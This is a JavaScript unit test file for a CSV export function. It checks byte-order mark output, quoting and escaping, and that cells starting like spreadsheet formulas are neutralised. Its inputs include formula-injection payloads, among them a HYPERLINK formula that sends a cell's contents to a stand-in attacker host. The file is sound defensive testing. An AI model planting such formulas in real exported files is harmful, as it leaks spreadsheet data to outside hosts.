import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {csvOf} from '../../src/core/csv.js';

describe('rows as a CSV file', () => {
  it('are in UTF-8 that spreadsheets know, each in a line, each cell in quotes', () => {
    assert.equal(
      csvOf([
        ['Teitl', 'ŵ'],
        ['', '1'],
      ]),
      '\uFEFF"Teitl","ŵ"\r\n"","1"\r\n',
    );
  });

  it('keep commas, quotes and line breaks inside a cell', () => {
    assert.equal(
      csvOf([['a,b', 'say "x"', 'two\r\nlines']]),
      '\uFEFF"a,b","say ""x""","two\r\nlines"\r\n',
    );
  });

  for (const text of [
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1)',
    '+44 20 7946 0000',
    '-2',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u200B=1+1',
    '＝1+1',
    '＠SUM(A1)',
  ])
    it(`never begin a cell as a formula does: ${JSON.stringify(text)}`, () => {
      assert.equal(csvOf([[text]]), `\uFEFF"'${text.replaceAll('"', '""')}"\r\n`);
    });

  it('leave every other text as it is', () => {
    for (const text of ['0808 808 2003', 'a=b', 'A – B', '– dash', "it's", '(=1)'])
      assert.equal(csvOf([[text]]), `\uFEFF"${text}"\r\n`);
  });
});
